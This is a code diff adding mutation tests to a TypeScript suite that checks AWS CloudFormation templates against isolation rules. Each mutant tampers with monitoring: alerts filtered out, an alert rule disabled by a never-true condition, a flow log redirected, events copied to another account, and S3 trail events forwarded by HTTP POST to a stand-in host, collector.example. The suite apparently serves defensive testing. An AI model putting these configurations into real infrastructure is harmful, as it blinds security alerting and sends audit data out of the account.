@@ -142,6 +142,77 @@ export const MUTANTS: Mutant[] = [
     rule: 'Isolation-MON2',
     mutate: (t) => deleteRule(t, /writes outside/),
   },
+  // ---- second hunt (network/data half) ----
+  {
+    name: 'the alert subscription filtering messages (alerts carry no attributes: none gets through)',
+    rule: 'Isolation-MON3',
+    mutate: (t) => (one(t, 'AWS::SNS::Subscription').r.Properties.FilterPolicy = { severity: ['critical'] }),
+  },
+  {
+    name: 'the key-tampering alert rule created only when a condition holds',
+    rule: 'Isolation-KEEP2',
+    mutate: (t) => {
+      const r = rule(t, /key/i);
+      t[r.file].Conditions = { Never: { 'Fn::Equals': ['a', 'b'] } };
+      r.r.Condition = 'Never';
+    },
+  },
+  {
+    name: 'the flow log on another resource when a condition says so',
+    rule: 'Isolation-NET5',
+    mutate: (t) => {
+      const log = one(t, 'AWS::EC2::FlowLog');
+      t[log.file].Conditions = { Elsewhere: { 'Fn::Equals': ['a', 'b'] } };
+      log.r.Properties.ResourceId = {
+        'Fn::If': ['Elsewhere', log.r.Properties.ResourceId, 'vpc-0123456789abcdef0'],
+      };
+    },
+  },
+  {
+    name: "a second target on the trail-tampering rule: another account's event bus",
+    rule: 'Isolation-LOG4',
+    mutate: (t) =>
+      rule(t, /trail/i).r.Properties.Targets.push({
+        Id: 'Copy',
+        Arn: 'arn:aws:events:eu-west-1:999988887777:event-bus/default',
+      }),
+  },
+  {
+    name: "a rule sending the trail's S3 events to an HTTP API destination",
+    rule: 'Isolation-LOG4',
+    mutate: (t) => {
+      const file = topic(t).file;
+      t[file].Resources.Hook = {
+        Type: 'AWS::Events::Connection',
+        Properties: {
+          AuthorizationType: 'API_KEY',
+          AuthParameters: { ApiKeyAuthParameters: { ApiKeyName: 'k', ApiKeyValue: 'v' } },
+        },
+      };
+      t[file].Resources.HookDestination = {
+        Type: 'AWS::Events::ApiDestination',
+        Properties: {
+          ConnectionArn: { 'Fn::GetAtt': ['Hook', 'Arn'] },
+          HttpMethod: 'POST',
+          InvocationEndpoint: 'https://collector.example/',
+        },
+      };
+      t[file].Resources.Forward = {
+        Type: 'AWS::Events::Rule',
+        Properties: {
+          State: 'ENABLED',
+          EventPattern: { source: ['aws.s3'] },
+          Targets: [
+            {
+              Id: 'Out',
+              Arn: { 'Fn::GetAtt': ['HookDestination', 'Arn'] },
+              RoleArn: 'arn:aws:iam::111122223333:role/forwarder',
+            },
+          ],
+        },
+      };
+    },
+  },
 ];
 
 mutationSuite(MUTANTS);
